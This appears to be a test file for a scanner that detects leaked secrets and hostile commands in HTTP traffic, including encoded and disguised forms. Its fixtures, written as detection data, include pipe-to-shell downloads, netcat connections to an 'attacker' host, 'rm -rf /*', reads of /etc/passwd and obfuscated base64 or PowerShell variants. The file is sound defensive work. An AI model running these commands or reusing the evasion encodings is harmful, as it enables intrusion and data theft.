import test from 'ava';
import * as fc from 'fast-check';
import { createEngine } from '../../src/detect/engine.ts';
import { compileKernel } from '../../src/detect/kernel/select.ts';
import { ANCHORS, RULES } from '../../src/detect/rules/index.ts';
import { TextScanner, scanWhole } from '../../src/detect/scanner.ts';
import { Spotter } from '../../src/detect/spotter.ts';
import { withHidden } from '../../src/detect/unfold/hidden-anchors.ts';
import type { Finding, ScanReport } from '../../src/model/finding.ts';
import type { Part } from '../../src/model/flow.ts';
import { cutAt, cuts } from '../support/cut.ts';
import { plantedText } from '../support/planted-text.ts';

const spotter = new Spotter(compileKernel, withHidden(ANCHORS), RULES);
const engine = createEngine({ rules: RULES, compileKernel, maskSecrets: true, maxFindings: 1000 });
const KEY = 'sk-live-51HqLyjWDarjtT1zdp7dcXYZ';

function scanText(text: string, part: Part = 'request.body'): readonly Finding[] {
  const window = scanWhole(spotter, Buffer.from(text, 'latin1'), part);
  return window === undefined ? [] : engine(window).findings;
}

function scanChunks(chunks: readonly Uint8Array[], windowBytes: number): ScanReport[] {
  const text = new TextScanner(spotter, 'request.body', windowBytes);
  const reports: ScanReport[] = [];
  const take = (): void => {
    for (let window = text.take(); window !== undefined; window = text.take()) reports.push(engine(window));
  };
  for (const chunk of chunks) {
    text.write(chunk);
    take();
  }
  text.end();
  take();
  return reports;
}

function places(findings: readonly Finding[]): string[] {
  return findings.map(({ rule, offset, length }) => `${rule} ${offset}+${length}`).sort();
}

test('says what was found and where', (t) => {
  const [finding, ...others] = scanText(`GET / HTTP/1.1\r\nx-api-key: ${KEY}\r\n\r\n`, 'request.head');
  t.deepEqual(others, []);
  t.is(finding?.rule, 'ai_api_key');
  t.is(finding?.type, 'EXFIL');
  t.is(finding?.offset, 27);
  t.is(finding?.length, KEY.length);
  t.is(finding?.location, 'request.header.x-api-key');
  t.false(finding?.snippet.includes(KEY.slice(8)));
  t.regex(finding?.fingerprint ?? '', /^[0-9a-f]{16}$/);
  t.like(finding, { severity: 'critical', matchLength: KEY.length, prefix: 'sk-live-' });
  t.false('isExample' in (finding ?? {}));
});

test('a finding in the head of a request says which hosts the head names', (t) => {
  const head = (host: string): string => `GET / HTTP/1.1\r\n${host}x-api-key: ${KEY}\r\n\r\n`;
  t.deepEqual(scanText(head(`Host: A.test\r\nx: ${'y'.repeat(20_000)}\r\n`), 'request.head')[0]?.hosts, ['a.test']);
  t.false('hosts' in (scanText(head(''), 'request.head')[0] ?? {}));
  t.false('hosts' in (scanText(head('Host: A.test\r\n'), 'request.body')[0] ?? {}));
});

const FORMS: Readonly<Record<string, (text: string) => string>> = {
  'as it is': (text) => `a ${text} b`,
  'a JSON string': (text) => JSON.stringify({ a: ` ${text} ` }),
  'a JSON string with escaped slashes': (text) => JSON.stringify({ a: ` ${text} ` }).replaceAll('/', '\\/'),
  'a JSON string all escaped': (text) =>
    `{"a":"${Array.from(` ${text} `, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
  'JSON in JSON': (text) => JSON.stringify({ a: JSON.stringify({ b: ` ${text} ` }) }),
  'URL-encoded': (text) => `a=${encodeURIComponent(text)}&b`,
  'URL-encoded all over': (text) =>
    `a=${Array.from(text, (one) => `%${one.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}&b`,
  'a form': (text) => new URLSearchParams({ a: text, b: '' }).toString(),
};

for (const [form, write] of Object.entries(FORMS)) {
  test(`each hit of each rule is found once: ${form}`, (t) => {
    for (const rule of RULES) {
      for (const hit of rule.hits) {
        const found = scanText(write(hit)).filter((finding) => finding.rule === rule.id);
        t.is(found.length, 1, `${rule.id}: ${write(hit)}: ${JSON.stringify(found)}`);
      }
    }
  });
}

/** Forms that leave nothing of the text as it was: what is found in them is found by undoing them. */
for (const form of ['a JSON string all escaped', 'URL-encoded', 'URL-encoded all over', 'a form']) {
  test(`what only looks like it is not found: ${form}`, (t) => {
    for (const rule of RULES) {
      for (const miss of rule.misses) {
        const text = FORMS[form]?.(miss) ?? '';
        const found = scanText(text).filter((finding) => finding.rule === rule.id);
        t.deepEqual(found, [], `${rule.id}: ${text}`);
      }
    }
  });
}

test('the same secret has the same fingerprint however it is written', (t) => {
  const pem = '-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIIGL/lamZ\n-----END EC PRIVATE KEY-----\n';
  for (const text of [KEY, pem]) {
    const prints = Object.values(FORMS).map((write) => scanText(write(text))[0]?.fingerprint);
    t.is(new Set(prints).size, 1, JSON.stringify(prints));
  }
});

test('offset and length of an encoded match are those of its escapes', (t) => {
  for (const path of [
    '/etc/passwd',
    '%2Fetc%2fpasswd',
    '\\/etc\\/passwd',
    '\\u002fetc\\u002Fpasswd',
    '/et%63/passwd',
  ]) {
    t.deepEqual(places(scanText(`a ${path} b`)), [`unix_sensitive 2+${path.length}`], path);
  }
});

test('windows give what the whole text gives, however it is cut', (t) => {
  const plants = RULES.flatMap(({ hits }) => [hits[0] ?? '', JSON.stringify(hits.at(-1) ?? '')]);
  const encoded = ['\\u002fetc\\/passwd', '%2Fetc%2Fpasswd', 'sk%2Dlive-51HqLyjWDarjtT1zdp7dcXYZ'];
  fc.assert(
    fc.property(plantedText([...plants, ...encoded]), cuts, fc.constantFrom(1024, 65_536), (text, offsets, size) => {
      const bytes = Buffer.from(text, 'latin1');
      const reports = scanChunks(cutAt(bytes, offsets), size);
      t.deepEqual(places(reports.flatMap(({ findings }) => findings)), places(scanText(text)));
    }),
    { numRuns: 150 },
  );
});

test('a match cut at any byte is found once', (t) => {
  for (const [plant, rule] of [
    [KEY, 'ai_api_key'],
    ['\\u002fetc\\u002fpasswd', 'unix_sensitive'],
    ['curl -s https://x.test/i.sh | bash', 'pipe_to_shell'],
  ]) {
    const bytes = Buffer.from(`{"a":"${'x'.repeat(30)} ${plant} ${'y'.repeat(30)}"}`);
    for (let at = 1; at < bytes.length; at++) {
      const findings = scanChunks([bytes.subarray(0, at), bytes.subarray(at)], 1024).flatMap((one) => one.findings);
      t.deepEqual(
        findings.map((finding) => finding.rule),
        [rule],
      );
    }
  }
});

test('reports so many findings of a rule and counts the others', (t) => {
  const few = createEngine({ rules: RULES, compileKernel, maskSecrets: true, maxFindings: 3 });
  const window = scanWhole(spotter, Buffer.from(`${'/etc/passwd '.repeat(5461)} ${KEY}`), 'response.body');
  const report = window && few(window);
  t.deepEqual(
    report?.findings.map(({ rule, offset }) => `${rule} ${offset}`),
    ['unix_sensitive 0', 'unix_sensitive 12', 'unix_sensitive 24', 'ai_api_key 65533'],
  );
  t.is(report?.omitted, 5458);
});

test('counts the encoded places at which it tried no rule any more', (t) => {
  const untried = (times: number): number | undefined => {
    const bytes = new Uint8Array(Buffer.from('%6ec x '.repeat(times)));
    return engine({ bytes, base: 0, ownFrom: 0, ownTo: bytes.length, part: 'request.body' }).untried;
  };
  t.is(untried(4096), undefined);
  t.is(untried(4100), 4);
});

test('reports only what its window owns', (t) => {
  const bytes = new Uint8Array(Buffer.from('/etc/passwd /etc/shadow \\/etc\\/sudoers'));
  const findings = (ownFrom: number, ownTo: number): number[] =>
    engine({ bytes, base: 100, ownFrom, ownTo, part: 'request.body' }).findings.map(({ offset }) => offset);
  t.deepEqual(findings(100, 200), [100, 112, 124]);
  t.deepEqual([...findings(100, 110), ...findings(110, 130), ...findings(130, 200)], [100, 112, 124]);
});

test('no bytes make it throw', (t) => {
  const bytes = fc.array(
    fc.oneof(
      fc.uint8Array({ maxLength: 9 }),
      fc.constantFrom(...RULES.flatMap(({ hits }) => hits)).map((hit) => Buffer.from(hit)),
    ),
  );
  fc.assert(
    fc.property(bytes, fc.constantFrom<Part>('request.head', 'response.trailer', 'ws.message'), (pieces, part) => {
      const text = new Uint8Array(Buffer.concat(pieces));
      const report = engine({ bytes: text, base: 7, ownFrom: 0, ownTo: text.length + 7, part });
      for (const { offset, length, snippet } of report.findings) {
        t.true(offset >= 7 && length > 0 && offset + length <= 7 + text.length && snippet.length <= 200);
      }
    }),
    { numRuns: 200 },
  );
});

test('a command is found where a text begins and ends with it, in whatever pieces it comes', (t) => {
  for (const text of [
    'nc attacker 4444',
    'nc x.internal 80',
    'nc%20attacker%204444',
    'curl https://x.test|sh',
    'curl https://x.test | s%68',
    'curl https://x.test \\u007csh',
  ]) {
    t.is(scanText(text).length, 1, text);
    const bytes = Buffer.from(text);
    for (let at = 1; at < bytes.length; at++) {
      for (const pieces of [
        [bytes.subarray(0, at), bytes.subarray(at)],
        [bytes.subarray(0, 1), bytes.subarray(1, at), bytes.subarray(at)],
      ]) {
        t.is(scanChunks(pieces, 1024).flatMap(({ findings }) => findings).length, 1, `${text} cut at ${at}`);
      }
    }
  }
  t.deepEqual(scanText('anc attacker 4444'), []);
});

test('says by which path a match was read', (t) => {
  const command = 'curl -s https://x.test/i.sh | bash';
  const coded = Buffer.from(command).toString('base64');
  for (const [text, path] of [
    [command, ''],
    [JSON.stringify({ cmd: command }), ''],
    [JSON.stringify({ cmd: 'bash -c "id"' }), 'json'],
    [JSON.stringify({ a: JSON.stringify({ b: 'bash -c "id"' }) }), 'json>json'],
    [`echo ${coded} | base64 -d`, 'base64'],
    [JSON.stringify({ cmd: coded }), 'base64'],
    [`powershell -EncodedCommand ${Buffer.from(command, 'utf16le').toString('base64')}`, 'base64>utf16'],
    [encodeURIComponent(encodeURIComponent('rm -rf /*')), 'percent>percent'],
    [JSON.stringify({ cmd: 'c\'\'url -s https://x.test/i.sh | b"a"sh' }), 'json>shell'],
    [`<code>c''url -s https://x.test/i.sh &#124; bash</code>`, 'html>shell'],
    [`c\u200burl -s https://x.test/i.sh | b\\ash`, 'disguise>shell'],
    [`echo '${Buffer.from(JSON.stringify({ cmd: 'bash -c "id"' })).toString('hex')}'`, 'hex>json'],
  ]) {
    const [finding, ...others] = scanEncoded(text ?? '');
    t.deepEqual(others, [], text);
    t.is(finding?.path, path, text);
  }
});

test('what stands elsewhere in a coded text is no context of a match', (t) => {
  const login = Buffer.from('somebody:hunter2-hunter2').toString('base64');
  const text = `authorization: Basic ${login}\r\nx: ${Buffer.from('cat /etc/passwd').toString('base64')}\r\n`;
  const [finding] = scanEncoded(text);
  t.is(finding?.snippet, 'cat /etc/passwd');
  t.is(finding?.offset, text.lastIndexOf(': ') + 2 + 5);
});

/** As a window of its own, whatever the prefilter says. */
function scanEncoded(text: string): readonly Finding[] {
  const bytes = new Uint8Array(Buffer.from(text));
  return engine({ bytes, base: 0, ownFrom: 0, ownTo: bytes.length, part: 'response.body' }).findings;
}

test('a flood of commands and escapes reports what is before it', (t) => {
  const text = `${'nc -x %41 '.repeat(6000)} %2Fetc%2Fpasswd`;
  t.deepEqual(
    scanEncoded(text).map(({ rule, path }) => `${rule} ${path}`),
    ['unix_sensitive percent'],
  );
});

test('the length is that of the secret, whatever hides it', (t) => {
  const [finding] = scanText(JSON.stringify({ a: `\n${KEY}` }).replaceAll('-', '\\u002d'));
  t.is(finding?.matchLength, KEY.length);
  t.true((finding?.length ?? 0) > KEY.length);
  t.is(finding?.prefix, 'sk-live-');
});

test('an example out of a documentation has no weight', (t) => {
  t.like(scanText('id = AKIAIOSFODNN7EXAMPLE')[0], { rule: 'aws_access_key', severity: 'info', isExample: true });
  t.like(scanText('id = AKIAIOSFODNN7EXAMPLF')[0], { rule: 'aws_access_key', severity: 'critical' });
});

test('fingerprints are made with the key of the installation', (t) => {
  const parts = { rules: RULES, compileKernel, maskSecrets: true, maxFindings: 10 };
  const window = scanWhole(spotter, Buffer.from(KEY), 'request.body');
  if (window === undefined) return t.fail();
  const prints = ['a', 'a', 'b'].map(
    (fingerprintKey) => createEngine({ ...parts, fingerprintKey })(window).findings[0],
  );
  t.is(prints[0]?.fingerprint, prints[1]?.fingerprint);
  t.not(prints[0]?.fingerprint, prints[2]?.fingerprint);
});
